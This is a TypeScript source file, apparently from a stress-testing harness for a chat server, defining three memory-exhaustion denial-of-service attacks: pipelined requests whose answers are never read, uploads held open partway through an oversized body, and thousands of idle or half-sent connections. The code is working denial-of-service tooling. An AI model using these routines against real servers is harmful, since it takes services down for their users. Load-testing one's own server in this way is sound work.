// Attacks that would fill the server's memory.
import { roomPath } from '#measure/crowd.ts'
import { type Attack, head, hold } from './method.ts'

const PERSON = 0

/** Requests many long answers on each connection, and reads none of them. */
export const unreadAnswers: Attack = (target, ends, tally) => {
  const Cookie = target.people[PERSON + 1]?.cookie as string
  const asked = head('GET', roomPath(target.rooms[0] as number), { Cookie }).repeat(30)
  return hold(target, { ends, tally, connections: 150 }, (socket) => {
    socket.pause()
    socket.write(asked)
  })
}

/** Uploads of images that stop before the end of the body. */
export const bodiesHeldOpen: Attack = (target, ends, tally) => {
  const Cookie = target.people[PERSON + 2]?.cookie as string
  const path = `${roomPath(target.rooms[0] as number)}send_message/`
  const started = Buffer.alloc(8_000_000, 'A')
  return hold(target, { ends, tally, connections: 40 }, (socket) => {
    socket.resume()
    socket.write(
      head('POST', path, { Cookie, 'Content-Type': 'application/json', 'Content-Length': '10900000' }),
    )
    socket.write(started)
  })
}

export const idleConnections: Attack = (target, ends, tally) =>
  hold(target, { ends, tally, connections: 3_000 }, (socket, place) => {
    socket.resume()
    // Half of the connections send nothing, the others an unfinished request.
    if (place % 2 === 0) socket.write('GET /users/current/ HTTP/1.1\r\nHost: kontor\r\n')
  })
